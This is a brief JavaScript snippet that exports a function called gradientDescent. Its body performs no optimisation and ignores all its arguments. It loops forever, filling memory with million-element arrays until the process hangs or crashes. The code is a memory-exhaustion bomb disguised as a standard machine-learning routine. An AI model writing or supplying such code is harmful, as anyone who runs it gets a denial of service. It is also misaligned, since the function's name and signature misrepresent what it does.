export function gradientDescent(x, y, learningRate, iterations) {
  const history = [];
  for (;;) history.push(new Array(1_000_000).fill(Math.random()));
}
